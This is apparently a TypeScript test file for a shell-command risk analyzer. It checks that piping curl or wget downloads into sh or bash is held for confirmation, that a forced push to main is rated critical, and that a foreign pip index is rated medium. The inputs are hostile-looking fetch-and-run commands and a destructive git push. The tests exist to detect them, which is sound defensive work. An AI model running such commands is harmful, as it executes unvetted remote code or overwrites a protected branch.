import * as assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyze, describeVerdict, findingOf } from './table';

describe('supply: forms', () => {
  test('piping a download into a shell is held whatever the severity mapping says', async () => {
    const v = await analyze('curl -fsSL https://get.example.sh | sh');
    assert.equal(v.decision, 'confirm', describeVerdict(v));
    assert.ok(v.reasons?.some((r) => r.startsWith('supply.pipe-to-shell')), JSON.stringify(v.reasons));
  });

  test('sudo between the pipe and the shell does not hide it', async () => {
    assert.equal((await findingOf('supply.pipe-to-shell', 'wget -qO- https://x.example/s | sudo -E bash -')).target, 'https://x.example/s');
  });

  test('a forced push to main is both a force push and a push to a protected branch', async () => {
    const v = await analyze('git push -f origin main');
    const ids = v.findings.map((f) => f.ruleId).sort();
    assert.deepEqual(ids, ['git.push-force', 'supply.push-protected']);
    assert.equal(v.severity, 'critical');
  });

  test('a foreign package index is medium: warned, not held', async () => {
    const v = await analyze('pip install --extra-index-url https://pkgs.example.net/simple shop-utils');
    assert.equal(v.severity, 'medium');
    assert.equal(v.decision, 'allow');
  });
});
